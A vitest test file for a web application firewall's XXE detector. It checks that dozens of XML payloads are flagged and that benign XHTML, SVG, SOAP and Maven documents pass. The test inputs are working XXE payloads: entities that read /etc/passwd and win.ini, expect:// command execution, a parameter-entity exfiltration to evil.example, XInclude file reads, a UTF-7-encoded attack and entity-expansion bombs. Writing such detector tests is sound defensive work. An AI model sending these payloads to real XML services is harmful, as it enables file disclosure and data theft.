import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { createWaf } from "../engine.ts";
import { classifyXxe, utf7Decode, XXE_RULES, xxeDetector } from "./xxe.ts";

const SUPERLINEAR_GUARD_MS = 250;

const rulesAt = (value: string, pl = 1, name = "ARGS:xml"): string[] => [
  ...new Set(
    variants(value).flatMap((v) =>
      xxeDetector
        .inspect({ name, value: v })
        .filter((d) => d.paranoia <= pl)
        .map((d) => d.rule),
    ),
  ),
];

const waf = createWaf({ detectors: [xxeDetector] });
/** Rules the engine reports for an XML body at PL1. */
const bodyRules = (body: string, contentType = "application/xml"): string[] =>
  waf
    .inspect(
      { method: "POST", path: "/api", headers: { "content-type": contentType }, body: Buffer.from(body) },
      { mode: "block", paranoia: 1, threshold: 5, exclusions: [] },
    )
    .matches.map((m) => m.rule);

describe("xxeDetector: external entities and DTDs", () => {
  it.each([
    '<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY data SYSTEM "netdoc:/etc/passwd">]>',
    "<!DOCTYPE foo [<!ENTITY x SYSTEM 'expect://id'>]>",
    '<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">',
    '<!ENTITY x SYSTEM "jar:http://evil.example/x.zip!/a">',
    '<!entity x public "-//x//y" "http://evil.example/x">',
    '<!ENTITY\tx\nSYSTEM\n"http://evil.example/">',
    "%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhosts%22%3E%5D%3E",
    "&lt;!DOCTYPE a [&lt;!ENTITY b SYSTEM &quot;file:///c:/windows/win.ini&quot;&gt;]&gt;",
  ])("entity: %s", (value) => {
    expect(rulesAt(value)).toContain("xxe-external-entity");
  });

  it.each([
    '<!DOCTYPE x SYSTEM "//x/x" >',
    '<!DOCTYPE root SYSTEM "http://evil.example/evil.dtd"><root/>',
    '<!doctype r public "-//A//B//EN" "http://evil.example/x.dtd">',
    "<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",
  ])("external DTD: %s", (value) => {
    expect(rulesAt(value)).toContain("xxe-external-dtd");
  });

  it.each([
    '<!DOCTYPE x [ <!ENTITY % y SYSTEM "//y/y" > %y; ]>',
    '<!DOCTYPE x [<!ENTITY % xxe PUBLIC "any_text" "http://evil.com/evil.dtd">%xxe;]>',
    "<!DOCTYPE x [ %remote; ]>", // a reference alone
    "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://evil.example/?x=%file;'>\">",
  ])("parameter entity: %s", (value) => {
    expect(rulesAt(value)).toContain("xxe-parameter-entity");
  });

  it("finds an entity inside SQL that builds XML (Oracle xmltype)", () => {
    const v =
      '1\'||(select extractvalue(xmltype(\'<?xml version="1.0"?><!DOCTYPE root [ <!ENTITY % a SYSTEM "http://x.example/">%a;';
    expect(rulesAt(v)).toEqual(expect.arrayContaining(["xxe-external-entity", "xxe-parameter-entity"]));
  });

  it.each([
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    "<!DOCTYPE html>",
    '<!DOCTYPE html SYSTEM "about:legacy-compat">',
    '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">',
    "The ENTITY keyword declares a SYSTEM entity in a DTD; see <!DOCTYPE> docs",
    "<!-- a comment --><note>hello</note>",
    "Tom & Jerry; O'Brien & Sons;",
  ])("not at PL1: %s", (value) => {
    expect(rulesAt(value)).toEqual([]);
  });
});

describe("xxeDetector: entity expansion", () => {
  it.each([
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>',
    '<!ENTITY b "&a;&a;">',
    "<!ENTITY c '&b; &b; &b;'>",
  ])("%s", (value) => {
    expect(rulesAt(value)).toContain("xxe-entity-expansion");
  });

  it("leaves an internal entity with predefined references to PL2", () => {
    const v = '<!DOCTYPE d [<!ENTITY company "Smith &amp; Sons &#169;">]>';
    expect(rulesAt(v)).toEqual([]);
    expect(rulesAt(v, 2)).toContain("xxe-entity-declaration");
  });
});

describe("xxeDetector: XInclude, schemas, encodings", () => {
  it.each([
    '<acp xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://x.example/foo"/></acp>',
    "<xi:include parse='text' href='file:///etc/passwd'/>",
    '<a xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="/etc/passwd"/></a>',
  ])("XInclude in a value: %s", (value) => {
    expect(rulesAt(value)).toContain("xxe-xinclude");
  });

  it("finds XInclude in a parsed XML body", () => {
    const body =
      '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>';
    expect(bodyRules(body)).toContain("xxe-xinclude");
  });

  it("finds a schema include pointing off the standard hosts", () => {
    const body =
      '<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://evil.example/"/></xs:schema>';
    expect(bodyRules(body)).toContain("xxe-schema-include");
    const imp =
      '<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:import schemaLocation="file:///etc/passwd"/></xsd:schema>';
    expect(bodyRules(imp)).toContain("xxe-schema-include");
  });

  it("lets a schema import the W3C's own schemas, and a namespace name alone", () => {
    const body =
      '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import namespace="http://example.com/ns" schemaLocation="http://www.w3.org/2001/xml.xsd"/></xs:schema>';
    expect(bodyRules(body)).toEqual([]);
  });

  it("keeps schemaLocation hints at PL2", () => {
    const name = "XML:x/@xsi:schemaLocation";
    expect(rulesAt("http://ns.example/ http://evil.example/x.xsd", 1, name)).toEqual([]);
    expect(rulesAt("http://ns.example/ http://evil.example/x.xsd", 2, name)).toContain("xxe-schema-location");
    expect(
      rulesAt("http://www.w3.org/1999/xhtml http://www.w3.org/2002/08/xhtml/xhtml1-strict.xsd", 2, name),
    ).toEqual([]);
  });

  it("reads a UTF-7 document and its declaration", () => {
    const body =
      '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4\n+ADwAIQ-ENTITY xxe SYSTEM +ACI-http://evil.example:1337+ACI +AD4AXQA+\n+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4\n';
    expect(bodyRules(body)).toEqual(expect.arrayContaining(["xxe-xml-encoding", "xxe-external-entity"]));
    expect(utf7Decode("+ADwAIQ-DOCTYPE")).toBe("<!DOCTYPE");
    expect(utf7Decode("1 +- 1 = 2, C++")).toBe("1 + 1 = 2, C++");
  });

  it.each(['<?xml version="1.0" encoding="IBM037"?>', "<?xml version='1.0' encoding='utf-7'?>"])(
    "encoding %s",
    (value) => {
      expect(rulesAt(value)).toContain("xxe-xml-encoding");
    },
  );

  it("finds the DOCTYPE the XML scanner reports, in a SOAP body", () => {
    const soap =
      '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a>&x;</a></soap:Body></soap:Envelope>';
    expect(bodyRules(soap, "application/soap+xml")).toContain("xxe-external-entity");
  });

  it.each([
    '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples &amp; pears</Item></GetPrice></soap:Body></soap:Envelope>',
    '<?xml version="1.0" encoding="ISO-8859-1"?><project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion></project>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="#a"/></svg>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>Include this: C++ + Java</title></feed>',
  ])("benign body %#", (body) => {
    expect(bodyRules(body)).toEqual([]);
  });
});

describe("xxeDetector: shape", () => {
  it("reports each rule with its table entry", () => {
    const [d] = xxeDetector.inspect({
      name: "XML:!DOCTYPE",
      value: '<!DOCTYPE a SYSTEM "http://x.example/a.dtd">',
    });
    expect(d).toEqual({ rule: "xxe-external-dtd", ...XXE_RULES["xxe-external-dtd"], target: "XML:!DOCTYPE" });
  });
  it("stays linear on hostile input", () => {
    for (const value of [
      "<!ENTITY ".repeat(8000),
      "<!DOCTYPE x [" + "%a".repeat(30000),
      '<!ENTITY a "' + "&a".repeat(30000),
      "+AD".repeat(20000),
      "<?xml encoding".repeat(5000),
      "<a:include".repeat(6000) + "w3.org/2001/xinclude",
    ]) {
      const t = performance.now();
      classifyXxe(value, "ARGS:x");
      expect(performance.now() - t).toBeLessThan(SUPERLINEAR_GUARD_MS);
    }
  });
});
